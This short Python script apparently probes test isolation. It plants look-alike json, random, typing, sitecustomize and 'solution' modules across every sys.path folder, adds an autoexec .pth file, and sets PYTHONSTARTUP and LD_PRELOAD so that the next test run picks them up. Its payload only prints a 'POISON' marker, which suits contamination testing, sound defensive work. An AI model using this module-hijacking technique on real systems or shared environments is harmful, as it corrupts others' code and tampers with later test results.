"""Leaves modules and settings in every folder where the next test may look for them."""

text = "import os\nos.write(1, b'POISON')\ndef dumps(*a, **k): return 'POISON'\ndef loads(*a, **k): return 'POISON'\n"
folders = [
    *everywhere(),
    *[path for path in sys.path if path],
    os.path.expanduser("~/.local/lib/python3.11/site-packages"),
]
for folder in folders:
    quietly(os.makedirs, folder, exist_ok=True)
    for name in (
        "json",
        "random",
        "typing",
        "sitecustomize",
        "usercustomize",
        "collections",
        "numbers",
        "solution",
        "statistics",
    ):
        write(os.path.join(folder, f"{name}.py"), text)
    write(os.path.join(folder, "attack.pth"), "import os; os.write(1, b'POISON')\n")
    write(os.path.join(folder, ".pythonrc"), text)
    write(os.path.join(folder, "left-by-the-last"), text)
os.environ["PYTHONPATH"] = os.getcwd()
os.environ["PYTHONSTARTUP"] = "left-by-the-last"
os.putenv("LD_PRELOAD", "left-by-the-last")
